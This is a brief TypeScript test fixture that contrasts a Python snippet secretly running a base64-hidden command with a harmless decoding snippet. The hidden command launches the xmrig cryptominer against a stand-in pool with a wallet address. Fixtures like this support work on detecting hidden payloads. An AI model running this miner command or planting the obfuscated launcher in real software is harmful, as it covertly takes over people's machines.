const command =
  'xmrig -o pool.example.com:3333 -u 888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';
const code = btoa(command);

const ascii = (text: string): Uint8Array => new TextEncoder().encode(text);

/** A script that hides a command, and one that hides nothing. Inert: nothing here is ever run. */
export const fixture: { readonly opens: Uint8Array; readonly leaves: Uint8Array; readonly holds: string } = {
  opens: ascii(`import base64, os\nos.system(base64.b64decode("${code}").decode())\n`),
  leaves: ascii('import base64\nprint("decoded: " + base64.b64decode(data).decode())\n'),
  holds: command,
};
